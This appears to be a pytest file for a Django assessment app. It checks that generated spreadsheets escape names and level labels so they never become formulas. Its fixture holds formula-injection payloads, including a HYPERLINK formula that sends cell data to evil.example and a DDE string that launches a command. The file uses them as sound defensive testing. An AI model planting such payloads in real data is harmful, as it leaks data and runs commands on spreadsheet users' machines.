"""Every generated spreadsheet escapes text cells: names and level labels from the data never become formulas."""

import io

import pytest
from django.utils import translation
from openpyxl import load_workbook

from assessments.importing import columns
from assessments.importing.exporting import data_export
from assessments.importing.workbooks import template_workbook
from assessments.models import Kind, RatingLevel, Sector
from assessments.reports import build as reports
from assessments.reports import renderers as report_renderers
from tests.factories import MemberAssessmentFactory, MemberFactory, OrganizationFactory, UnitAssessmentFactory, level

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.fixture
def hostile_district():
    """A district whose name, a unit's name and a level's label are formulas, with one rated unit and member."""
    ls = OrganizationFactory(code="LS", name="Đảng bộ tỉnh Lạng Sơn", kind=Kind.PROVINCE, sector="")
    district = OrganizationFactory(code="BS", name=HOSTILE, kind=Kind.DISTRICT, sector="", parent=ls)
    commune = OrganizationFactory(
        code="BS-X", name="+cmd|' /C calc'!A0", kind=Kind.GRASSROOTS_COMMITTEE, sector=Sector.COMMUNE, parent=district
    )
    weak = OrganizationFactory(
        code="BS-Y", name="@SUM(1+1)", kind=Kind.GRASSROOTS_CELL, sector=Sector.COMMUNE, parent=district
    )
    RatingLevel.objects.filter(scheme__code="hd27-2014", subject="unit", code="good").update(label_vi="=1+1")
    UnitAssessmentFactory(organization=commune, year=2017, level=level("hd27-2014", "unit", "good"))
    UnitAssessmentFactory(organization=weak, year=2017, level=level("hd27-2014", "unit", "weak"))
    member = MemberFactory(organization=weak, full_name="-2+3 Nguyễn Văn A")
    MemberAssessmentFactory(member=member, organization=weak, year=2017, level=level("hd27-2014", "member", "good"))
    return district


def _formula_cells(workbook) -> list[str]:
    """Cells a spreadsheet would evaluate: formula cells, or text starting like a formula."""
    found = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if cell.data_type == "f" or (isinstance(value, str) and value[:1] in "=+-@"):
                    found.append(f"{sheet.title}!{cell.coordinate}: {value!r}")
    return found


def test_the_results_report_xlsx_escapes_titles_subtitles_headers_and_lists(hostile_district):
    with translation.override("vi"):
        report = reports.report_build(organization=hostile_district, year=2017)
        workbook = load_workbook(io.BytesIO(report_renderers.report_xlsx(report)))
    assert _formula_cells(workbook) == []
    listed = workbook["Danh sách"]
    # The name is kept, only made inert: an apostrophe in front, as the importer expects it back.
    assert listed.cell(2, 1).value == "'" + HOSTILE
    headers = [cell.value for cell in workbook["Tổ chức đảng"][4]]
    assert "'=1+1" in headers


def test_the_import_template_escapes_level_labels_in_its_guide(hostile_district, officer):
    content = template_workbook(columns.UNIT_RATINGS, user=officer)
    workbook = load_workbook(io.BytesIO(content))
    assert _formula_cells(workbook) == []
    guide = workbook.worksheets[1]
    assert any(row[0] == "'=1+1" for row in guide.iter_rows(values_only=True))  # the label, first


def test_exports_escape_names(hostile_district, tmp_path):
    path = str(tmp_path / "organizations.xlsx")
    data_export(columns.ORGANIZATIONS, path)
    workbook = load_workbook(path)
    assert _formula_cells(workbook) == []
    names = [row[1] for row in workbook.worksheets[0].iter_rows(min_row=2, values_only=True)]
    assert "'" + HOSTILE in names
